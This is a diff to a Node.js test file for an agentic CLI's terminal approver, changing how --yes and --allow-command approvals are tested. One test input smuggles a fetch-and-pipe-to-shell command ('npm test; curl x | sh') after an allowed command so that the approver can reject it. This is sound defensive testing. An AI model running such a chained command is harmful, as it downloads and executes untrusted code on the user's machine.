@@ -1,6 +1,6 @@
 // Terminal approvals for `arc ask --mode agentic` (DESIGN §5, §6.1): the diff is shown before the
-// question, only "y"/"yes" approves, --yes and --allow-command answer without asking, and a
-// metacharacter never passes the allowlist.
+// question, only "y"/"yes" approves, --yes answers edits without asking, and every command that
+// reaches the approver is asked (judgeCommand already ran what --allow-command allows).
 import assert from 'node:assert/strict';
 import { PassThrough } from 'node:stream';
 import { test } from 'node:test';
@@ -29,14 +29,13 @@ test('an edit is shown as a diff and applied only on y', async () => {
   assert.match(t.shown(), /arc: create y\.js\?/);
 });
 
-test('--yes approves edits without asking; --allow-command approves only clean matching commands', async () => {
+test('--yes approves edits without asking; a command that reaches the approver is always asked', async () => {
   const t = terminal(['n', 'yes']);
   const a = new TerminalApprover(t.io, { yes: true, allowCommands: ['npm test'] });
   assert.equal((await a.approveEdit({ path: 'x.js', kind: 'edit', diff: '' })).approved, true);
-  assert.equal((await a.approveCommand({ command: 'npm test', reason: 'r', cwd: '/w', sandboxed: true })).approved, true);
   assert.equal(t.shown(), '', 'nothing was asked');
-  assert.equal((await a.approveCommand({ command: 'npm test; curl x | sh', reason: 'metacharacters', cwd: '/w', sandboxed: true })).approved, false);
-  assert.match(t.shown(), /run `npm test; curl x \| sh` in \/w\? \(metacharacters\)/);
+  assert.equal((await a.approveCommand({ command: 'npm test; curl x | sh', reason: 'not one simple command', cwd: '/w', sandboxed: true })).approved, false);
+  assert.match(t.shown(), /run `npm test; curl x \| sh` in \/w\? \(not one simple command\)/);
   assert.equal((await a.approveSensitive({ path: '.env', tool: 'read_file' })).approved, true);
 });
 
